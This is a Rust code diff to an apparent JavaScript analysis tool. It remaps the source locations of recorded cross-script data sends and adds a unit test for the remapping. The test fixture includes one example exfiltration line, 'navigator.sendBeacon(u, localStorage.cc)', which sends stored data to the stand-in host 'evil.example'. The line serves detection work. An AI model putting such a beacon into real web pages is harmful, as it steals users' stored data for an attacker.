@@ -106,6 +106,11 @@ impl Unbound {
             }
             labels.push(Labels { page, script });
         }
+        // What the script hands to other scripts carries file locations too (a joined
+        // finding points at the send).
+        for s in &mut analysis.pipes.sent {
+            s.location = id.to_code(s.location)?;
+        }
         let rest = serde_json::to_string(&analysis).ok()?;
         for name in [&id.script_id, &id.page_url] {
             let quoted = serde_json::to_string(name).ok()?;
@@ -128,6 +133,9 @@ impl Unbound {
                 f.script = Some(id.script_id.clone());
             }
             f.location = f.location.map(|loc| id.to_file(loc));
+        }
+        for s in &mut out.pipes.sent {
+            s.location = id.to_file(s.location);
         }
         out
     }
@@ -205,6 +213,28 @@ mod tests {
             serde_json::to_string(&again).unwrap(),
             serde_json::to_string(&r).unwrap()
         );
+    }
+
+    #[test]
+    fn pipe_sends_move_with_the_code() {
+        let a = id("https://s.example/a", 0, 10, 9);
+        let b = id("https://s.example/b", 3, 2, 1);
+        let mut r = ScriptAnalysis::default();
+        r.pipes.sent.push(crate::js::pipes::PipeSend {
+            key: "local:cc".into(),
+            host: "evil.example".into(),
+            channel: crate::js::fact_kinds::Channel::Beacon,
+            location: Location {
+                line: 10,
+                column: 12,
+            },
+            evidence: "navigator.sendBeacon(u, localStorage.cc)".into(),
+        });
+        let got = Unbound::unbind(&r, &a).unwrap().bind(&b);
+        assert_eq!(got.pipes.sent[0].location, Location { line: 2, column: 4 });
+        // A send before the code's start cannot be this identity's: not reusable.
+        r.pipes.sent[0].location = Location { line: 3, column: 1 };
+        assert!(Unbound::unbind(&r, &a).is_none());
     }
 
     #[test]
